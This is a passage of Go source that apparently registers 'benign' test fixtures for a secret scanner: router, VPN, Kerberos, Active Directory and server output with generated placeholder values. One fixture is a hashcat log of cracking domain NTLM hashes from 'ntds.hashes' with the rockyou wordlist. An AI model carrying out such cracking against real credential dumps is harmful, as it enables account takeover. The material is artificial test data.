`, V{"_a": g.hex(80), "_b": g.hex(80), "_c": g.hex(64)}, "$ANSIBLE_VAULT;1.1;AES256")

	g.add("ops/benign-hashcat-status-exhausted", `
Session..........: hashcat
Status...........: Exhausted
Hash.Mode........: 1000 (NTLM)
Hash.Target......: ntds.hashes
Time.Started.....: Mon Jun  3 10:22:41 2024 (2 mins, 11 secs)
Guess.Base.......: File (/usr/share/wordlists/rockyou.txt)
Guess.Mod........: Rules (rules/best64.rule)
Speed.#1.........: 28731.2 MH/s (7.41ms) @ Accel:512 Loops:77 Thr:32 Vec:1
Recovered........: 212/1841 (11.52%) Digests (total), 0/1841 (0.00%) Digests (new)
Progress.........: 1104427846/1104427846 (100.00%)
`, nil, "Hash.Mode........: 1000 (NTLM)", "Recovered........: 212/1841 (11.52%) Digests (total)")

	g.add("ops/benign-cert-store-thumbprints", `
PS C:\> Get-ChildItem Cert:\LocalMachine\My | Format-Table Thumbprint, Subject, NotAfter -AutoSize

Thumbprint                               Subject                    NotAfter
----------                               -------                    --------
«_a» CN=rds01.acme.local        4/11/2025 9:00:00 AM
«_b» CN=WMSVC-SHA2              3/2/2034 10:12:41 AM
`, V{"_a": g.s(alHexU, 40), "_b": g.s(alHexU, 40)}, "CN=WMSVC-SHA2")

	g.add("ops/benign-dhcp-leases-and-neighbours", `
$ grep -A6 'lease 10.20.0.57' /var/lib/dhcp/dhcpd.leases | head -7
lease 10.20.0.57 {
  starts 1 2024/06/03 07:12:44;
  ends 1 2024/06/03 19:12:44;
  binding state active;
  hardware ethernet «_a»;
  uid "«=u»";
  client-hostname "WS-0142";
$ ip neigh show dev ens192 | head -2
10.20.0.1 lladdr «_b» REACHABLE
10.20.0.57 lladdr «_a» STALE
`, V{"_a": g.opsMAC(":"), "=u": `\001` + g.hex(12), "_b": g.opsMAC(":")}, `client-hostname "WS-0142";`)

	g.add("ops/benign-swanctl-list-sas", `
$ sudo swanctl --list-sas
branch01: #14, ESTABLISHED, IKEv2, «_i»_i «_r»_r*
  local  'hq.acme.io' @ 203.0.113.10[4500]
  remote 'branch01.acme.io' @ 198.51.100.7[4500]
  AES_CBC-256/HMAC_SHA2_256_128/PRF_HMAC_SHA2_256/MODP_2048
  established 1221s ago, rekeying in 12611s
  branch01-net: #31, reqid 1, INSTALLED, TUNNEL-in-UDP, ESP:AES_GCM_16-256
    installed 1221s ago, rekeying in 2044s, expires in 2739s
    in  «_si»,  81234 bytes,   612 packets,     3s ago
    out «_so», 118811 bytes,   704 packets,     3s ago
`, V{"_i": g.hex(16), "_r": g.hex(16), "_si": "c" + g.hex(7), "_so": "c" + g.hex(7)}, "AES_CBC-256/HMAC_SHA2_256_128/PRF_HMAC_SHA2_256/MODP_2048")

	g.add("ops/benign-chage-and-faillock", `
$ sudo chage -l deploy
Last password change                                    : Jun 01, 2024
Password expires                                        : Aug 30, 2024
Password inactive                                       : never
Account expires                                         : never
Minimum number of days between password change          : 1
Maximum number of days between password change          : 90
Number of days of warning before password expires       : 7
$ sudo faillock --user deploy
deploy:
When                Type  Source                                           Valid
2024-06-03 09:41:12 RHOST 10.0.4.250                                           V
`, nil, "Maximum number of days between password change          : 90", "2024-06-03 09:41:12 RHOST 10.0.4.250")

	g.add("ops/benign-vcenter-thumbprint-and-host-uuid", `
$ govc about.cert -k -thumbprint -u vcsa01.acme.local
vcsa01.acme.local «_t»
$ esxcli system uuid get
«_u»
$ govc host.info -host esx21.acme.local | grep -E 'UUID|Model'
  Model:              PowerEdge R750
  UUID:               «_h»
`, V{"_t": strings.ToUpper(g.tlColonHex(20)), "_u": g.hex(8) + "-" + g.hex(8) + "-" + g.hex(4) + "-" + g.hex(12), "_h": g.uuid()}, "Model:              PowerEdge R750")

	g.add("ops/benign-fortigate-get-system-status", `
fgt-hq # get system status
Version: FortiGate-100F v7.2.8,build1639,240313 (GA.M)
Security Level: 1
Firmware Signature: certified
Virus-DB: 92.04471(2024-06-03 09:12)
IPS-DB: 27.00791(2024-06-02 01:14)
Serial-Number: FG100F«_s»
BIOS version: 05000021
Hostname: fgt-hq
Operation Mode: NAT
Current virtual domain: root
`, V{"_s": g.s(alUpNum, 10)}, "Version: FortiGate-100F v7.2.8,build1639,240313 (GA.M)", "Operation Mode: NAT")

	g.add("ops/benign-ad-password-policy", `
PS C:\> Get-ADDefaultDomainPasswordPolicy

ComplexityEnabled           : True
DistinguishedName           : DC=acme,DC=local
LockoutDuration             : 00:30:00
LockoutObservationWindow    : 00:30:00
LockoutThreshold            : 10
MaxPasswordAge              : 90.00:00:00
MinPasswordAge              : 1.00:00:00
MinPasswordLength           : 14
PasswordHistoryCount        : 24
ReversibleEncryptionEnabled : False
`, nil, "MinPasswordLength           : 14", "ReversibleEncryptionEnabled : False")

	g.add("ops/benign-secret-references-in-automation", `
resource "fortios_vpnipsec_phase1interface" "branch07" {
  name       = "to-branch-07"
  interface  = "port1"
  remote_gw  = "198.51.100.70"
  psksecret  = var.branch07_psk
}
$ vault kv get -field=password secret/network/core-sw01
$ PASS=$(op read "op://Infrastructure/core-sw01/password") && sshpass -e ssh netadmin@10.10.0.1
radius_secret: "{{ lookup('env', 'RADIUS_SECRET') }}"
`, nil, "psksecret  = var.branch07_psk", "vault kv get -field=password secret/network/core-sw01", `op read "op://Infrastructure/core-sw01/password"`, "{{ lookup('env', 'RADIUS_SECRET') }}")

	g.add("ops/benign-klist-tickets", `
$ klist
Ticket cache: KCM:1001:41872
Default principal: dana@ACME.LOCAL

Valid starting       Expires              Service principal
06/03/2024 08:12:44  06/03/2024 18:12:44  krbtgt/ACME.LOCAL@ACME.LOCAL
	renew until 06/10/2024 08:12:41
06/03/2024 08:13:02  06/03/2024 18:12:44  HTTP/intranet.acme.local@ACME.LOCAL
`, nil, "Default principal: dana@ACME.LOCAL", "krbtgt/ACME.LOCAL@ACME.LOCAL", "HTTP/intranet.acme.local@ACME.LOCAL")

	_, mpub := g.wireguard()
	g.add("ops/benign-mikrotik-export-without-sensitive", `
[admin@rb5009-hq] > /export
# 2024-06-03 10:14:02 by RouterOS 7.14.3
# software id = «_sid»
#
/interface wireguard
add listen-port=13231 mtu=1420 name=wg-site
/interface wireguard peers
add allowed-address=10.99.0.2/32 endpoint-address=198.51.100.23 interface=wg-site public-key="«_p»"
/ip address
add address=10.99.0.1/24 interface=wg-site network=10.99.0.0
/system identity
set name=rb5009-hq
`, V{"_sid": g.s(alUpNum, 4) + "-" + g.s(alUpNum, 4), "_p": mpub}, "add listen-port=13231 mtu=1420 name=wg-site", "set name=rb5009-hq")

	g.add("ops/benign-masked-values-in-ui-and-cli", `
$ racadm -r 10.0.5.22 -u root -p "$IDRAC_PW" get iDRAC.Users.2
[Key=iDRAC.Embedded.1#Users.2]
Enable=Enabled
Password=******** (Write-Only)
Privilege=0x1ff
UserName=root
$ proxmox-backup-manager remote list
┌──────┬───────────────┬──────────────┬──────────┐
│ name │ host          │ auth-id      │ password │
╞══════╪═══════════════╪══════════════╪══════════╡
│ pbs2 │ 10.0.6.50     │ sync@pbs     │ ******** │
└──────┴───────────────┴──────────────┴──────────┘
`, nil, "Password=******** (Write-Only)", "│ ******** │", `-p "$IDRAC_PW"`, "sync@pbs")
}
